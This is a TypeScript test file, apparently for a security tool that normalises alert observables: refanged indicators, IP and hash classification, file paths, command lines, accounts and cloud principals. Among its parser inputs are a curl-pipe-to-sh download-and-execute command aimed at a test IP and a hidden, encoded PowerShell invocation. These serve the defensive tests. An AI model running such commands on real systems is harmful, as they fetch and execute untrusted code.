import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import {
  classifyHash,
  classifyIp,
  dedupeObservables,
  executableOfCommandLine,
  fileNameOfPath,
  guessObservable,
  makeObservable,
  normalizeDomain,
  parseAccount,
  parseCloudPrincipal,
  refang,
  userOfAccount,
} from './observables.js';
import type { CanonicalObservable } from '../../common/canonical-alert.js';

describe('refang', () => {
  test('undoes every supported defang form', () => {
    assert.equal(refang('hxxp://bad[.]example(.)com[:]8080/x'), 'http://bad.example.com:8080/x');
    assert.equal(refang('HXXPS://evil[.]example/a'), 'https://evil.example/a');
    assert.equal(refang('jdoe[@]corp[.]example'), 'jdoe@corp.example');
    assert.equal(refang('  10[.]1[.]2[.]3 '), '10.1.2.3');
  });

  test('leaves clean values alone', () => {
    assert.equal(refang('https://cdn.bad-example.net/stage2.ps1'), 'https://cdn.bad-example.net/stage2.ps1');
  });
});

describe('classifyIp', () => {
  const privateV4 = ['10.0.0.1', '172.16.0.1', '172.31.255.254', '192.168.1.1', '127.0.0.1', '169.254.10.10', '100.64.0.1', '100.127.255.255'];
  const publicV4 = ['8.8.8.8', '172.15.0.1', '172.32.0.1', '100.63.255.255', '100.128.0.1', '198.51.100.77', '203.0.113.66', '192.169.0.1'];

  test('marks the private IPv4 ranges', () => {
    for (const ip of privateV4) assert.deepEqual(classifyIp(ip), { version: 4, address: ip, is_private: true }, ip);
  });

  test('leaves the ranges next to them public', () => {
    for (const ip of publicV4) assert.equal(classifyIp(ip)?.is_private, false, ip);
  });

  test('marks ::1, fc00::/7 and fe80::/10 private and global IPv6 public', () => {
    assert.deepEqual(classifyIp('::1'), { version: 6, address: '::1', is_private: true });
    assert.equal(classifyIp('0:0:0:0:0:0:0:1')?.is_private, true);
    assert.equal(classifyIp('fc00::1')?.is_private, true);
    assert.equal(classifyIp('FD12:3456::1')?.is_private, true);
    assert.equal(classifyIp('fe80::1%eth0')?.is_private, true);
    assert.equal(classifyIp('febf::1')?.is_private, true);
    assert.equal(classifyIp('fec0::1')?.is_private, false);
    assert.equal(classifyIp('2001:db8::66')?.is_private, false);
    assert.equal(classifyIp('::ffff:10.1.2.3')?.is_private, true);
    assert.equal(classifyIp('::ffff:203.0.113.9')?.is_private, false);
  });

  test('normalises spelling and refuses non-addresses', () => {
    assert.equal(classifyIp('[2001:DB8::1]')?.address, '2001:db8::1');
    assert.equal(classifyIp('10[.]0[.]0[.]7')?.address, '10.0.0.7');
    assert.equal(classifyIp('256.1.1.1'), undefined);
    assert.equal(classifyIp('ws-0142'), undefined);
    assert.equal(classifyIp('1.2.3'), undefined);
  });
});

describe('classifyHash', () => {
  test('tells md5, sha1 and sha256 apart by length', () => {
    assert.equal(classifyHash('7353f60b1739074eb17c5f4dddefe239'), 'md5');
    assert.equal(classifyHash('6cbce4a295c163791b60fc23d285e6d84f28ee4c'), 'sha1');
    assert.equal(classifyHash('9785001B0DCF755EDDB8AF294A373C0B87B2498660F724E76C4D53F9C217C7A3'), 'sha256');
  });

  test('ignores zero-filled and malformed hashes', () => {
    assert.equal(classifyHash('0'.repeat(32)), undefined);
    assert.equal(classifyHash('0'.repeat(64)), undefined);
    assert.equal(classifyHash('abc'), undefined);
    assert.equal(classifyHash('z'.repeat(32)), undefined);
  });
});

describe('makeObservable', () => {
  test('builds typed observables with OCSF type ids', () => {
    assert.deepEqual(makeObservable('ip', '198.51.100.77', 'src'), {
      type_id: 2,
      type: 'IP Address',
      value: '198.51.100.77',
      kind: 'ip',
      name: 'src',
      is_private: false,
    });
    assert.deepEqual(makeObservable('url', 'hxxps://cdn[.]bad-example[.]net/x'), {
      type_id: 6,
      type: 'URL String',
      value: 'https://cdn.bad-example.net/x',
      kind: 'url',
    });
  });

  test('refangs and lower-cases domains, emails and hashes', () => {
    assert.equal(makeObservable('domain', 'CDN[.]Bad-Example(.)NET.')?.value, 'cdn.bad-example.net');
    assert.equal(makeObservable('email', 'JDoe[@]Corp[.]Example')?.value, 'jdoe@corp.example');
    assert.equal(makeObservable('md5', '7353F60B1739074EB17C5F4DDDEFE239')?.value, '7353f60b1739074eb17c5f4dddefe239');
  });

  test('re-tells a hash kind by its length and drops zero hashes', () => {
    assert.equal(makeObservable('sha256', '6cbce4a295c163791b60fc23d285e6d84f28ee4c')?.kind, 'sha1');
    assert.equal(makeObservable('md5', '00000000000000000000000000000000'), undefined);
  });

  test('turns a hostname or domain that is an IP into an ip observable', () => {
    assert.deepEqual(makeObservable('hostname', '10.1.4.142', 'dest')?.kind, 'ip');
    assert.equal(makeObservable('domain', '203.0.113.66')?.is_private, false);
  });

  test('keeps hostname case, takes the basename of file paths', () => {
    assert.equal(makeObservable('hostname', 'WS-0142')?.value, 'WS-0142');
    assert.equal(makeObservable('file_name', 'C:\\Windows\\System32\\cmd.exe')?.value, 'cmd.exe');
    assert.equal(makeObservable('file_name', '/usr/bin/curl')?.value, 'curl');
  });

  test('rejects empty values, placeholders and values of the wrong kind', () => {
    assert.equal(makeObservable('user', ''), undefined);
    assert.equal(makeObservable('user', 'N/A'), undefined);
    assert.equal(makeObservable('hostname', '-'), undefined);
    assert.equal(makeObservable('url', 'not a url'), undefined);
    assert.equal(makeObservable('email', 'jdoe'), undefined);
    assert.equal(makeObservable('domain', 'localhost'), undefined);
    assert.equal(makeObservable('ip', 12345), undefined);
    assert.equal(makeObservable('ip', null), undefined);
  });
});

describe('normalizeDomain', () => {
  test('accepts punycode and underscores, refuses bare words and IPs', () => {
    assert.equal(normalizeDomain('xn--bcher-kva.example'), 'xn--bcher-kva.example');
    assert.equal(normalizeDomain('_dmarc.example.com'), '_dmarc.example.com');
    assert.equal(normalizeDomain('intranet'), undefined);
    assert.equal(normalizeDomain('10.0.0.1'), undefined);
    assert.equal(normalizeDomain('-bad.example.com'), undefined);
  });
});

describe('dedupeObservables and guessObservable', () => {
  test('dedupes by kind and value, case-insensitively for hostnames, domains, emails and hashes', () => {
    const list = [
      makeObservable('hostname', 'WS-0142', 'a'),
      makeObservable('hostname', 'ws-0142', 'b'),
      makeObservable('sha256', 'DE96A6E69944335375DC1AC238336066889D9FFC7D73628EF4FE1B1B160AB32C'),
      makeObservable('sha256', 'de96a6e69944335375dc1ac238336066889d9ffc7d73628ef4fe1b1b160ab32c'),
      makeObservable('user', 'JDoe'),
      makeObservable('user', 'jdoe'),
      makeObservable('domain', 'example.com'),
      makeObservable('hostname', 'example.com'),
    ].filter((o): o is CanonicalObservable => o !== undefined);
    assert.deepEqual(
      dedupeObservables(list).map((o) => `${o.kind}:${o.value}:${o.name ?? ''}`),
      [
        'hostname:WS-0142:a',
        'sha256:de96a6e69944335375dc1ac238336066889d9ffc7d73628ef4fe1b1b160ab32c:',
        'user:JDoe:',
        'user:jdoe:',
        'domain:example.com:',
        'hostname:example.com:',
      ],
    );
  });

  test('guessObservable classifies bare indicators', () => {
    assert.equal(guessObservable('198.51.100.7')?.kind, 'ip');
    assert.equal(guessObservable('hxxp://x[.]example/a')?.kind, 'url');
    assert.equal(guessObservable('a@b.example')?.kind, 'email');
    assert.equal(guessObservable('7353f60b1739074eb17c5f4dddefe239')?.kind, 'md5');
    assert.equal(guessObservable('bad[.]example')?.kind, 'domain');
    assert.equal(guessObservable('just words'), undefined);
  });
});

describe('file paths and command lines', () => {
  test('fileNameOfPath takes the last part of Windows, device, UNC, POSIX and quoted paths', () => {
    assert.equal(fileNameOfPath('C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe'), 'powershell.exe');
    assert.equal(fileNameOfPath('\\Device\\HarddiskVolume3\\Users\\jdoe\\AppData\\Local\\Temp\\svch0st.exe'), 'svch0st.exe');
    assert.equal(fileNameOfPath('\\\\fs01\\share$\\tools\\psexec.exe'), 'psexec.exe');
    assert.equal(fileNameOfPath('/usr/bin/curl'), 'curl');
    assert.equal(fileNameOfPath('"C:\\Program Files\\7-Zip\\7z.exe"'), '7z.exe');
    assert.equal(fileNameOfPath('/var/www/html/uploads/'), 'uploads');
    assert.equal(fileNameOfPath('C:\\'), undefined);
    assert.equal(fileNameOfPath('/'), undefined);
  });

  test('executableOfCommandLine finds the program of quoted, unquoted Windows and POSIX command lines', () => {
    assert.equal(
      executableOfCommandLine('"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\x.docm"'),
      'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
    );
    assert.equal(executableOfCommandLine('C:\\Program Files\\Foo Bar\\agent.exe --run'), 'C:\\Program Files\\Foo Bar\\agent.exe');
    assert.equal(executableOfCommandLine('powershell.exe -nop -w hidden -enc SQBFAFgA'), 'powershell.exe');
    assert.equal(executableOfCommandLine('/bin/sh -c "curl http://198.51.100.7/x | sh"'), '/bin/sh');
    assert.equal(executableOfCommandLine('   '), undefined);
  });
});

describe('accounts', () => {
  test('parseAccount splits DOMAIN\\user, UPNs and machine accounts', () => {
    assert.deepEqual(parseAccount('CORP\\jdoe'), { name: 'jdoe', domain: 'CORP', machine: false });
    assert.deepEqual(parseAccount('jdoe@corp.example'), { name: 'jdoe', domain: 'corp.example', upn: 'jdoe@corp.example', machine: false });
    assert.deepEqual(parseAccount('DC01$', 'CORP'), { name: 'DC01$', domain: 'CORP', machine: true, host: 'DC01' });
    assert.deepEqual(parseAccount('NT AUTHORITY\\SYSTEM'), { name: 'SYSTEM', domain: 'NT AUTHORITY', machine: false });
    assert.deepEqual(parseAccount('svc_backup', '-'), { name: 'svc_backup', machine: false });
    assert.equal(parseAccount('-'), undefined);
    assert.equal(parseAccount(42), undefined);
  });

  test('userOfAccount gives a person, with the UPN as e-mail, and nothing for a machine account', () => {
    assert.deepEqual(userOfAccount('CORP\\jdoe'), { name: 'jdoe', domain: 'CORP' });
    assert.deepEqual(userOfAccount('J.Doe@Corp.Example'), { name: 'J.Doe@Corp.Example', domain: 'Corp.Example', email_addr: 'j.doe@corp.example' });
    assert.equal(userOfAccount('CORP\\DC01$'), undefined);
  });
});

describe('cloud principals', () => {
  test('GCP principal e-mails and IAM members, with or without a prefix', () => {
    assert.deepEqual(parseCloudPrincipal('serviceAccount:ci-deployer@acme-prod-1234.iam.gserviceaccount.com'), {
      user: 'ci-deployer@acme-prod-1234.iam.gserviceaccount.com',
      email: 'ci-deployer@acme-prod-1234.iam.gserviceaccount.com',
      type: 'service_account',
    });
    assert.equal(parseCloudPrincipal('user:Alice@Acme.example')?.email, 'alice@acme.example');
    assert.equal(parseCloudPrincipal('principal://iam.googleapis.com/locations/global/workforcePools/p/subject/x'), undefined);
  });

  test('AWS ARNs and access key ids', () => {
    assert.deepEqual(parseCloudPrincipal('arn:aws:iam::123456789012:user/ops/alice'), {
      user: 'alice',
      resource_uid: 'arn:aws:iam::123456789012:user/ops/alice',
      type: 'aws_user',
    });
    assert.deepEqual(parseCloudPrincipal('arn:aws:sts::123456789012:assumed-role/OrgAdmin/bob@acme.example'), {
      user: 'bob@acme.example',
      resource_uid: 'arn:aws:sts::123456789012:assumed-role/OrgAdmin/bob@acme.example',
      type: 'aws_assumed_role',
    });
    assert.deepEqual(parseCloudPrincipal('arn:aws:iam::123456789012:role/EKSNodeRole'), { resource_uid: 'arn:aws:iam::123456789012:role/EKSNodeRole', type: 'aws_role' });
    assert.deepEqual(parseCloudPrincipal('arn:aws-us-gov:iam::123456789012:root'), { resource_uid: 'arn:aws-us-gov:iam::123456789012:root', type: 'aws_root' });
    assert.deepEqual(parseCloudPrincipal('ASIAZ3EXAMPLE7KEY123'), { credential_uid: 'ASIAZ3EXAMPLE7KEY123', type: 'aws_access_key' });
    assert.equal(parseCloudPrincipal('AKIA-not-a-key'), undefined);
  });
});

describe('IPv6 with zones', () => {
  test('link-local addresses keep their address, lose the zone and count as private', () => {
    for (const text of ['fe80::1c2a:3bff:fe4d:5e6f%eth0', '[fe80::1c2a:3bff:fe4d:5e6f%25eth0]', 'FE80::1C2A:3BFF:FE4D:5E6F%12']) {
      const obs = makeObservable('ip', text, 'x');
      assert.equal(obs?.value, 'fe80::1c2a:3bff:fe4d:5e6f', text);
      assert.equal(obs?.is_private, true, text);
    }
    assert.equal(makeObservable('ip', '2001:db8:85a3::8a2e:370:7334')?.is_private, false);
  });
});
